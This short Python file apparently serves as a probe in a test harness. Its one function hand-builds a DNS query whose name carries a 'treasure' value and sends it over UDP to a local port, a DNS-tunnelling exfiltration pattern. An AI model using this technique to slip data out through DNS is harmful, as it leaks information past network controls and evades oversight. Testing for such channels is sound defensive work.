"""Send a word out in the name that a DNS query asks for."""

import socket


def attempt(targets, secret):
    label = targets["treasure"].encode()
    question = b"".join(bytes([len(part)]) + part for part in (label, b"example")) + b"\0\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagram:
        datagram.connect(("127.0.0.1", targets["udp"]))
        datagram.send(b"\1\2\1\0\0\1\0\0\0\0\0\0" + question)
